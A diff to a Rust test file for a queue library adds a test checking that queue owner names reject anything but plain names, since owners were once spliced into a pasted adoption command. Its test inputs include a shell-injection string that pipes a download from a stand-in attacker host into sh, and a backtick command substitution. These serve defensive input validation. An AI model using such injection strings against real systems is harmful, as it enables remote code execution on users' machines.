@@ -177,6 +177,23 @@ async fn a_queue_of_another_owner_is_not_taken_over() {
     assert!(matches!(refused, Err(Error::Refused { ref code, .. }) if code == "RL008"), "{refused:?}");
 }
 
+/// Before, any text could be an owner, and became a part of the command that adopts a queue, which people paste.
+#[tokio::test]
+async fn an_owner_is_nothing_but_a_name() {
+    let test = TestDb::new().await;
+    let declared = async |owner: &str| {
+        declare(&test.db, &rowlock_queue::Declaration { owner: owner.into(), ..declaration("letters") }).await
+    };
+    for owner in ["x'; curl -s http://evil.example/x | sh; echo '", "`id`", "a\nb", "", &"a".repeat(201)] {
+        let refused = declared(owner).await;
+        assert!(
+            matches!(refused, Err(Error::Refused { ref code, .. }) if code == "RL005"),
+            "{owner}: {refused:?}"
+        );
+    }
+    declared("0a1b-2c/shop.eu/emails").await.unwrap();
+}
+
 #[tokio::test]
 async fn payloads_are_kept_byte_for_byte_and_ids_leave_as_strings() {
     let test = TestDb::new().await;
